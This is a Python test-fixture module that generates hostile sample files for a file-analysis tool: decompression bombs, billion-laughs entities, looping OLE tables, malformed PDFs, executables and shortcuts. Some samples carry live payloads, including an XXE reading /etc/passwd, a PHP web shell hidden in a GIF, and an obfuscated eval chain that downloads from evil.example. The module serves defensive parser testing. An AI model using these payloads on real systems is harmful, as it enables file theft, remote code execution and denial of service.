"""The hostile documents, pictures, programs and texts."""

from __future__ import annotations

import base64
import random
import struct
import zlib

from tests.unit.tools.files import makers as make
from tests.unit.tools.files.hostile import MIB, Hostile


def _pdf_streams() -> bytes:
    bomb = zlib.compress(bytes(30 * MIB), 9)
    inner = b"<</Type/Catalog/Pages 2 0 R>>"
    return make.pdf(inner, *(make.stream(b"/Type/ObjStm/Filter/FlateDecode", bomb) for _ in range(40)))


def _pdf_filters() -> bytes:
    data = bytes(20 * MIB)
    for _ in range(3):
        data = zlib.compress(data, 9)
    kind = b"/Type/EmbeddedFile/Filter[/FlateDecode/FlateDecode/FlateDecode]"
    return make.pdf(b"<</Type/Catalog/Names<</EmbeddedFiles 2 0 R>>>>", make.stream(kind, data))


def _pdf_circle() -> bytes:
    return make.pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 9999999>>", b"3 0 R")


def _pdf_deep() -> bytes:
    return make.pdf(b"<</Type/Catalog/A " + b"[" * 60_000 + b"]" * 60_000 + b">>")


def _rtf_objects() -> bytes:
    hexed = (b"0105000002000000" + b"0b000000" + b"Equation.3\0".hex().encode() + bytes(8).hex().encode()).ljust(
        4000, b"0"
    )
    return b"{\\rtf1" + b"".join(b"{\\object\\objupdate{\\*\\objdata " + hexed + b"}}" for _ in range(2000)) + b"}"


def _rtf_braces() -> bytes:
    return b"{\\rtf1\\objdata" + b"{" * (8 * MIB)


def _ole_loop() -> bytes:
    """The allocation table leads back to its own start, the directory to itself."""
    plain = bytearray(make.macro_document())
    plain[512 : 512 + 512] = struct.pack("<128I", *([1, 1, 2, 3, *range(4, 128)][:128]))
    return bytes(plain)


def _ole_sizes() -> bytes:
    plain = bytearray(make.macro_document())
    for at in range(1024, len(plain) - 127, 128):
        if plain[at + 66] == 2:
            plain[at + 120 : at + 128] = struct.pack("<Q", 2**40)
    return bytes(plain)


def _vba_bomb() -> bytes:
    """Chunks of nine bytes that unpack to four thousand, over and over."""
    first = make.vba('Attribute VB_Name = "a"\r\n' + "x" * 10)
    chunk = struct.pack("<H", 0xB000 | 3) + b"\x02a\xff\x0f"
    return make.ole({"VBA/dir": b"\1", "VBA/_VBA_PROJECT": bytes(30), "VBA/m": first + chunk * 100_000})


def _docx_entities() -> bytes:
    laughs = b'<!DOCTYPE a [<!ENTITY a0 "lol">' + b"".join(
        b'<!ENTITY a%d "%s">' % (i, b"&a%d;" % (i - 1) * 10) for i in range(1, 10)
    )
    return make.zipped(
        {"[Content_Types].xml": b"<T/>", "word/document.xml": laughs + b"]><w:document>&a9;</w:document>"}
    )


def _random(length: int, head: bytes) -> bytes:
    return head + random.Random(7).randbytes(length)


def _base64_tower() -> bytes:
    text = b"powershell iwr http://evil.example/a"
    for _ in range(18):
        text = b"var a = '" + base64.b64encode(text) + b"'; eval(atob(a))"
    return text


DOCUMENTS = (
    Hostile(name="streams.pdf", make=_pdf_streams, facts={"type": "pdf", "complete": False}, said="more parts"),
    Hostile(name="filters.pdf", make=_pdf_filters, facts={"embedded_objects": 1}),
    Hostile(name="circle.pdf", make=_pdf_circle, facts={"type": "pdf"}),
    Hostile(name="deep.pdf", make=_pdf_deep, facts={"type": "pdf"}),
    Hostile(name="uri.pdf", make=lambda: b"%PDF-1.7\n" + b"/URI(" * MIB, facts={"damaged": True}),
    Hostile(name="launch.pdf", make=lambda: b"%PDF-1.7\n" + b"/Launch /#4a#53 " * 300_000, facts={"pdf_launch": True}),
    Hostile(
        name="cut.pdf",
        make=lambda: make.pdf(b"<</Type/Catalog/OpenAction<</S/JavaScript/JS(x)>>>>")[:80],
        facts={"pdf_javascript": True, "damaged": True},
    ),
    Hostile(name="streams-without-end.pdf", make=lambda: b"%PDF-1.7\n" + b"stream\n" * MIB, facts={"type": "pdf"}),
    Hostile(name="objects.rtf", make=_rtf_objects, facts={"type": "rtf"}, said="equation editor"),
    Hostile(name="braces.rtf", make=_rtf_braces, facts={"type": "rtf"}),
    Hostile(name="loop.doc", make=_ole_loop, facts={"damaged": True}),
    Hostile(name="sizes.doc", make=_ole_sizes, facts={"type": "doc"}),
    Hostile(
        name="header.doc", make=lambda: bytes.fromhex("d0cf11e0a1b11ae1") + b"\xff" * 2000, facts={"complete": False}
    ),
    Hostile(
        name="random.xls", make=lambda: _random(2 * MIB, make.ole({"Workbook": b"x"})[:512]), facts={"damaged": True}
    ),
    Hostile(name="vba.doc", make=_vba_bomb, facts={"macros": True}),
    Hostile(name="laughs.docx", make=_docx_entities, facts={"entities": True}, said="entities"),
    Hostile(
        name="xxe.xml",
        make=lambda: b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        facts={"entities": True},
    ),
    Hostile(
        name="xxe.svg",
        make=lambda: b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "http://evil.example/x">]><svg>&x;</svg>',
        facts={"entities": True},
    ),
    Hostile(name="arguments.lnk", make=lambda: make.lnk(" " * 300 + "/c calc", target="cmd.exe"), said="out of sight"),
    Hostile(name="cut.lnk", make=lambda: make.lnk("x" * 500)[:200], facts={"damaged": True}),
    Hostile(
        name="lists.lnk",
        make=lambda: make.lnk()[:20] + struct.pack("<I", 0xFF) + b"\xff" * 200_000,
        facts={"damaged": True},
    ),
    Hostile(name="huge.png", make=lambda: make.png(2**31 - 1, 2**31 - 1), facts={"bomb": True}, said="bomb"),
    Hostile(name="huge.gif", make=lambda: b"GIF89a\xff\xff\xff\xff" + bytes(20), facts={"bomb": True, "width": 65535}),
    Hostile(name="segments.jpg", make=lambda: b"\xff\xd8" + b"\xff\xe0\x00\x02" * MIB, facts={"type": "jpeg"}),
    Hostile(
        name="code.gif", make=lambda: b"GIF89a\x01\x00\x01\x00" + b"<?php system($_GET[0]);?>", facts={"polyglot": True}
    ),
    Hostile(
        name="archive.jpg",
        make=lambda: b"\xff\xd8\xff\xe0\x00\x04ab\xff\xd9" + make.zipped({"a.exe": b"MZ"}),
        facts={"polyglot": True},
    ),
    Hostile(name="sections.exe", make=lambda: make.pe(0xFFFF), facts={"program": "windows"}),
    Hostile(
        name="header.exe",
        make=lambda: b"MZ".ljust(60, b"\0") + b"\xff\xff\xff\x7f" + bytes(90),
        facts={"damaged": True},
    ),
    Hostile(
        name="script.ps1",
        make=lambda: b"`" * 300_000 + b"[char]" * 50_000 + b"('a'+'b')" * 50_000,
        facts={"complete": False},
    ),
    Hostile(name="layers.js", make=_base64_tower, facts={"type": "script"}),
    Hostile(
        name="page.html", make=lambda: b"<html>" + b"<a href=" * 200_000 + b"<div>" * 200_000, facts={"type": "html"}
    ),
    Hostile(name="nul.txt", make=lambda: bytes(25 * MIB), facts={"type": "data"}),
    Hostile(name="halves.txt", make=lambda: b"\xff\xfe" + b"\x00\xd8" * 100_000, facts={"type": "text"}),
    Hostile(
        name="onenote.one",
        make=lambda: (
            bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
            + (bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + b"\xff" * 20) * 20_000
        ),
        facts={"type": "onenote"},
    ),
    Hostile(name="random.bin", make=lambda: _random(6 * MIB, b""), facts={"type": "data"}),
    Hostile(name="empty.docx", make=lambda: b"", facts={"type": "empty"}),
)
